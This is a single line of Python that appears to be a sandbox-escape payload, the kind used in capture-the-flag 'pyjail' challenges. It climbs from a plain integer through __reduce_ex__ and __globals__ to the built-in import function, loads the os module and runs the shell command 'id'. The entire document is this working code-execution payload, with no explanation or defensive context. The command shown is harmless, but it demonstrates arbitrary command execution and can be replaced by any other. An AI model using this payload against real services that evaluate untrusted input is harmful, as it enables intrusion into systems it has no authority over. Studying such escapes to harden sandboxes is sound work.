(1).__reduce_ex__(2)[0].__globals__["__builtins__"]["__import__"]("os").system("id")
